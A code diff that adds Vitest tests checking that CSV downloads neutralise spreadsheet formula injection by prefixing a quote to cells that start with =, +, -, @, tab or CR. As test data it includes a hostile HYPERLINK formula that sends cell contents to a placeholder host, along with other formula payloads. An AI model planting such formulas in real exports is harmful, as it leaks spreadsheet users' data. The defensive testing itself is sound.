@@ -2,7 +2,9 @@ import { describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { joined, prettyJson, roundCsv as roundCsvPieces, roundJson as roundJsonPieces } from '../../src/view/downloads.ts';
-import type { Result } from '../../src/types.ts';
+import type { Result, Round } from '../../src/types.ts';
+import { csvCell } from '../../src/view/csv-cell.ts';
+import { allRoundsCsv as allRoundsCsvPieces, regionHistoryCsv } from '../../src/view/dataset-downloads.ts';
 
 const roundJson = (...args: Parameters<typeof roundJsonPieces>) => joined(roundJsonPieces(...args));
 const roundCsv = (...args: Parameters<typeof roundCsvPieces>) => joined(roundCsvPieces(...args));
@@ -81,5 +83,46 @@ describe('downloads in pieces', () => {
     const json = [...roundJsonPieces(2023, results)];
     expect(json.length).toBe(5); // the opening, three pieces of at most 500 results, the closing
     expect(json.join('')).toBe(`${JSON.stringify({ year: 2023, results }, null, 2)}\n`);
+  });
+});
+
+describe('CSV cells never start a formula (OWASP CSV injection)', () => {
+  const FORMULA = /^[=+\-@\t\r]/;
+  const hostile: Result = {
+    ...base, code: '-18', name: '=HYPERLINK("http://x.example/?"&A1,"klik")', province: '+18', slug: '@slug',
+    band: '\t=1+2', grade: '\r-A', scoreChange: -1.5, rankChange: -3,
+  };
+
+  it("prefixes ' to text starting with = + - @ tab or CR; numbers, negative ones too, stay numbers", () => {
+    const [header, row] = parse(roundCsv([hostile], [])) as string[][];
+    const cell = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
+    expect(cell).toMatchObject({ code: "'-18", name: `'${hostile.name}`, kind: 'kota', province: "'+18", slug: "'@slug", score: '80.85', band: "'\t=1+2", grade: "'\r-A" });
+    expect(cell).toMatchObject({ scoreChange: '-1.5', rankChange: '-3' });
+    // The JSON keeps the true value.
+    expect((JSON.parse(roundJson(2023, [hostile])) as { results: Result[] }).results[0]!.name).toBe(hostile.name);
+  });
+
+  it('every download made of the same rows: all-rounds and region history CSVs too', () => {
+    const round = { year: 2023, title: 'x', published: null, source: null, bands: [], dimensions: [{ key: 'input', label: 'Input' }], html: '' } as unknown as Round;
+    for (const csv of [allRoundsCsvPieces([round], new Map([[2023, [hostile]]])), regionHistoryCsv([{ year: 2023, result: hostile }], [round])]) {
+      const rows = parse(joined(csv)) as string[][];
+      for (const cell of rows.flat()) expect(FORMULA.test(cell) && !/^-\d/.test(cell), cell).toBe(false);
+    }
+  });
+
+  it('property: any text cell reads back as itself, or itself after a leading quote that only a formula start gets', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom('=1+2', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', "'=1", '"=1"')), (text) => {
+        const cell = csvCell(text);
+        const [[read]] = parse(`${cell}\r\n`, { relax_quotes: true, skip_empty_lines: false }) as string[][] as [[string]];
+        if (FORMULA.test(text)) expect(read).toBe(`'${text}`);
+        else expect(read ?? '').toBe(text);
+        expect(FORMULA.test(read ?? '')).toBe(false);
+      }),
+      { numRuns: 300 },
+    );
+    fc.assert(fc.property(fc.double({ noNaN: true }), (n) => {
+      expect(csvCell(n)).toBe(String(n));
+    }));
   });
 });
